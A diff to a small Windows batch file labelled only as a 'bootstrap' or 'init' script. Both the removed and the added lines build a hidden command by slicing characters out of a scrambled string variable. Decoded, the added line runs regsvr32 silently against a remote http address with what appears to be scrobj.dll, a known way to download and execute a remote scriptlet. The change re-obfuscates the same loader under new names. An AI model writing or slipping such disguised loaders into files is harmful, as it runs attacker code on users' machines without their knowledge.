@@ -1,4 +1,4 @@
-REM bootstrap 7214 v1
+REM init 5638 v1
 @echo off
-set "fulf=K1Wbfh985ds/Srtn0.vgeop:GRlcqu3FE2ji"
-%fulf:~-23,1%%fulf:~-16,1%%fulf:~19,1%%fulf:~10,1%%fulf:~18,1%%fulf:~13,1%%fulf:~-6,1%%fulf:~33,1% %fulf:~11,1%%fulf:~10,1% %fulf:~11,1%%fulf:~15,1% %fulf:~11,1%%fulf:~29,1% %fulf:~-25,1%%fulf:~35,1%%fulf:~23,1%%fulf:~-31,1%%fulf:~14,1%%fulf:~14,1%%fulf:~-14,1%%fulf:~-13,1%%fulf:~11,1%%fulf:~-25,1%%fulf:~1,1%%fulf:~6,1%%fulf:~7,1%%fulf:~17,1%%fulf:~8,1%%fulf:~1,1%%fulf:~17,1%%fulf:~1,1%%fulf:~16,1%%fulf:~16,1%%fulf:~17,1%%fulf:~-30,1%%fulf:~-25,1%%fulf:~-32,1%%fulf:~35,1%%fulf:~-10,1%%fulf:~20,1%%fulf:~-19,1%%fulf:~10,1%%fulf:~27,1%%fulf:~14,1% %fulf:~-26,1%%fulf:~-9,1%%fulf:~13,1%%fulf:~21,1%%fulf:~-33,1%%fulf:~-2,1%%fulf:~-19,1%%fulf:~9,1%%fulf:~-10,1%%fulf:~-10,1%
+set "mthn=m:v/bhsnd9WtGri12uF8o.5pglP06Cc3fje"
+%mthn:~-22,1%%mthn:~34,1%%mthn:~24,1%%mthn:~-29,1%%mthn:~2,1%%mthn:~13,1%%mthn:~31,1%%mthn:~16,1% %mthn:~3,1%%mthn:~6,1% %mthn:~-32,1%%mthn:~-28,1% %mthn:~3,1%%mthn:~17,1% %mthn:~3,1%%mthn:~14,1%%mthn:~1,1%%mthn:~-30,1%%mthn:~-24,1%%mthn:~11,1%%mthn:~23,1%%mthn:~1,1%%mthn:~3,1%%mthn:~3,1%%mthn:~15,1%%mthn:~9,1%%mthn:~-19,1%%mthn:~21,1%%mthn:~-8,1%%mthn:~21,1%%mthn:~16,1%%mthn:~21,1%%mthn:~15,1%%mthn:~-13,1%%mthn:~27,1%%mthn:~3,1%%mthn:~32,1%%mthn:~-21,1%%mthn:~-10,1%%mthn:~34,1%%mthn:~21,1%%mthn:~6,1%%mthn:~30,1%%mthn:~11,1% %mthn:~-29,1%%mthn:~-5,1%%mthn:~13,1%%mthn:~-15,1%%mthn:~-31,1%%mthn:~-2,1%%mthn:~21,1%%mthn:~-27,1%%mthn:~25,1%%mthn:~-10,1%
